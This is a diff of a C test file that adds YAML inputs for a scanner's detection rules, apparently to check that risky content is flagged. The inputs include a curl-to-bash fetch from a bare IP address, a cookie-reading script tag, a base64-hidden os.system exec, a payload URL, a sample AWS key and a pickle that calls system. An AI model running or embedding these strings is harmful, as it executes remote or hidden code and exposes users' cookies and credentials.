@@ -204,6 +204,13 @@ static void documents(void **state)
 		  "c: d\n",
 		  GH_OK, "GH-YAML-0003", NULL },
 		{ "code in a value", "x: __import__('os').system('id')\n", GH_OK, "GH-YAML-0201", NULL },
+		{ "a command in a value", "note: curl -s http://1.2.3.4/x.sh | bash\n", GH_OK, "GH-YAML-0202", NULL },
+		{ "a script for a browser", "note: '<script>alert(document.cookie)</script>'\n", GH_OK, "GH-YAML-0203",
+		  NULL },
+		{ "escaped bytes", "note: exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))\n", GH_OK,
+		  "GH-YAML-0204", NULL },
+		{ "an address", "note: http://evil.example/payload.exe\n", GH_OK, "GH-YAML-0205", NULL },
+		{ "a credential", "aws: AKIAIOSFODNN7ABCDEFG\n", GH_OK, "GH-YAML-0206", NULL },
 		{ "Keras as YAML", "class_name: Lambda\nconfig: {}\n", GH_OK, "call operation ? .Lambda", NULL },
 		{ "a pickle in base64",
 		  "d: gASVHgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==\nb: !!binary "
